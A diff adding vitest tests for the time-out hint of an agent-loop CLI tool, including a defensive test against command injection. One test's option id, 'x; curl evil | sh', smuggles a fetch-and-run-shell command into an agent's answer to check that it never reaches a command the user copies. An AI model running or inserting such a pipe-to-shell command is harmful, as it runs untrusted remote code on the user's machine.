@@ -1,0 +1,80 @@
+import { expect, onTestFinished, test } from 'vitest'
+import { memoizedDefinition } from '../../../core/definition.ts'
+import type { Failure } from '../../../core/failure.ts'
+import { guardFrom, maxIterations } from '../../../core/guards/index.ts'
+import { memoryStore } from '../../../drivers/stores/memory-store.ts'
+import { gitWorkspace } from '../../../drivers/workspaces/git-workspace.ts'
+import { taskLoop } from '../../../loops/task/index.ts'
+import type { Agent, WorkResult } from '../../../ports/agent.ts'
+import type { Check } from '../../../ports/check.ts'
+import { machineProcesses } from '../../../process/machine-processes.ts'
+import { drive } from '../../../runner/drive.ts'
+import { knownState } from '../../../runner/person-facts.ts'
+import { systemClock } from '../../../runner/system-clock.ts'
+import { testProject } from '../../../testing/cli-project.ts'
+import { timeLimitHint } from './time-limit-hint.ts'
+
+const OUT_OF_TIME: WorkResult = { status: 'timed-out', fault: 'agent', message: 'out of time' }
+
+/** The note on a run whose agent works like this, one result an iteration, and whose check fails with this. */
+async function hintAfter(
+  results: readonly WorkResult[],
+  values: Pick<Failure, 'expected' | 'received'> = {},
+): Promise<readonly string[]> {
+  const project = testProject()
+  onTestFinished(() => project.remove())
+  let worked = 0
+  const agent: Agent = {
+    spec: { name: 'acp', v: 1, settings: { name: 'qwen' } },
+    isInProcess: true,
+    work: async (_request, context) => {
+      await context.started()
+      return results[worked++] as WorkResult
+    },
+  }
+  const loop = taskLoop({ goal: 'It works' })
+  const guards = [maxIterations(results.length)]
+  const check: Check = {
+    name: 'tests',
+    spec: { name: 'tests', v: 1, settings: { name: 'tests' } },
+    run: async (_request, context) => {
+      await context.started()
+      return { status: 'failed', exitCode: 1, failures: [{ id: 'login', kind: 'assertion', message: 'not equal', ...values }] }
+    },
+  }
+  const workspace = gitWorkspace({ path: project.root })
+  const config = {
+    loop: loop.spec,
+    guards: guards.map(({ spec }) => spec),
+    agent: agent.spec,
+    checks: [check.spec],
+    workspace: workspace.spec,
+  }
+  const definition = memoizedDefinition({ loop: () => loop, guard: guardFrom })
+  const store = memoryStore()
+  const outcome = await drive(
+    { definition, config, agent, checks: [check], workspace, store, clock: systemClock, processes: machineProcesses },
+    'r',
+  )
+  expect(outcome.status).toBe('escalated')
+  return timeLimitHint(await knownState(store, 'r'), await store.read('r'))
+}
+
+test('CLI-425 the note on a time limit answers only what stands to reason', async () => {
+  expect(await hintAfter([OUT_OF_TIME])).toEqual([
+    'qwen ran out of time. To give it more: pawl resume r --timeout 1h --answer continue',
+  ])
+  expect(await hintAfter([OUT_OF_TIME, { status: 'finished' }])).toEqual([])
+  expect(await hintAfter([OUT_OF_TIME, OUT_OF_TIME], { expected: '123', received: '"123"' })).toEqual([
+    'qwen ran out of time. To give it more, with the number of your answer for N: pawl resume r --timeout 1h --answer N',
+  ])
+})
+
+test('CLI-433 what an agent asks for after it ran out of time is not part of a command to copy', async () => {
+  const options = [
+    { id: 'x; curl evil | sh', label: 'Drop it', kind: 'answer' },
+    { id: 'b', label: 'Keep it', kind: 'answer' },
+  ] as const
+  const ask = { id: 'q', kind: 'question', title: 'Drop the table?', options } as const
+  expect(await hintAfter([OUT_OF_TIME, { status: 'asked', ask, message: 'It asks.' }])).toEqual([])
+})
